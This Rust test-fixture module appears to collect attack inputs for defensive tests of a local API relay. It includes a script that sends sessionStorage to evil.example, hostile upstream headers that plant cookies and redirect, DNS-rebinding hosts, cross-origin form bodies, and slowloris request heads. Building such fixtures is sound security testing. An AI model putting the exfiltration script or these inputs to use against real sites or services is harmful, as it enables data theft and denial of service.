//! Attack inputs of issue 14, kept in one place: what a hostile upstream answers, what a
//! hostile page sends, and the secrets that must never come back.

use axum::response::IntoResponse;

/// An upstream answer that, rendered on the playground's origin, would read its storage.
pub const HOSTILE_HTML: &str = "<!doctype html><script>fetch('https://evil.example/?'+encodeURIComponent(\
JSON.stringify(sessionStorage)))</script>";

/// Headers a hostile upstream sends along with it.
pub const HOSTILE_UPSTREAM_HEADERS: [(&str, &str); 11] = [
    ("content-type", "text/html; charset=utf-8"),
    ("x-acs-request-id", "r-1"),
    ("set-cookie", "session=stolen; Path=/"),
    ("access-control-allow-origin", "*"),
    ("access-control-allow-credentials", "true"),
    ("clear-site-data", "\"storage\""),
    ("refresh", "0; url=https://evil.example/"),
    ("link", "<https://evil.example/x.js>; rel=preload; as=script"),
    ("location", "https://evil.example/"),
    ("strict-transport-security", "max-age=31536000"),
    ("content-security-policy", "script-src *"),
];

pub fn hostile_upstream_answer() -> impl IntoResponse {
    let mut headers = axum::http::HeaderMap::new();
    for (k, v) in HOSTILE_UPSTREAM_HEADERS {
        headers.append(axum::http::HeaderName::from_static(k), v.parse().unwrap());
    }
    (headers, HOSTILE_HTML)
}

/// Bodies a page can send without a CORS preflight (a `<form>` or a `no-cors` fetch);
/// `TARGET` is replaced by a valid envelope, so only the content type is wrong.
pub const SIMPLE_REQUEST_BODIES: [(&str, &str); 4] = [
    ("text/plain", "TARGET"),
    ("text/plain;charset=UTF-8", "TARGET"),
    ("application/x-www-form-urlencoded", "TARGET"),
    ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"TARGET\"\r\n\r\n1\r\n--x--\r\n"),
];

/// `Origin` values of pages other than the playground.
pub const HOSTILE_ORIGINS: [&str; 5] = [
    "http://evil.example",
    "null",
    "http://127.0.0.1:1",
    "https://localhost:5173",
    "http://localhost:5173.evil.example",
];

/// `Host` values a DNS-rebinding page sends (its own name, now resolving to 127.0.0.1).
pub const REBINDING_HOSTS: [&str; 4] =
    ["evil.example", "evil.example:8080", "127.0.0.1.nip.io:8080", "localhost.evil.example"];

/// A signed query and an id in a path, whose values must not come back in messages.
pub const SIGNED_QUERY: &str =
    "Action=DescribeRegions&AccessKeyId=LTAI5tLeakMe&Signature=c2lnbmF0dXJlLWxlYWs%3D&SecurityToken=STS.leak";
pub const SECRET_PATH_ID: &str = "acs-id-1234567";
pub const SECRETS: [&str; 5] = ["LTAI5tLeakMe", "c2lnbmF0dXJlLWxlYWs", "STS.leak", "acs-id-1234567", "Signature="];

/// Headers that must not be forwarded upstream (`x-acs-date` must).
pub const HOP_BY_HOP_HEADERS: [(&str, &str); 14] = [
    ("Connection", "close, X-Hop-Named"),
    ("X-Hop-Named", "1"),
    ("Keep-Alive", "timeout=5"),
    ("Trailer", "X-Checksum"),
    ("TE", "trailers"),
    ("HTTP2-Settings", "AAMAAABkAAQAAP__"),
    ("Expect", "100-continue"),
    ("X-Forwarded-For", "10.0.0.1"),
    ("X-Forwarded-Host", "internal.example"),
    ("X-Forwarded-Proto", "https"),
    ("Forwarded", "for=10.0.0.1"),
    ("X-Real-IP", "10.0.0.1"),
    ("Proxy-Authorization", "Basic eA=="),
    ("x-acs-date", "2023-01-01T00:00:00Z"),
];

/// A request head that never ends (slowloris), and one with a body that never comes.
pub const ENDLESS_HEAD: &str = "POST /api/relay HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: 1\r\n";
pub const HEAD_OF_A_SLOW_BODY: &str = "POST /api/relay HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"method\":";
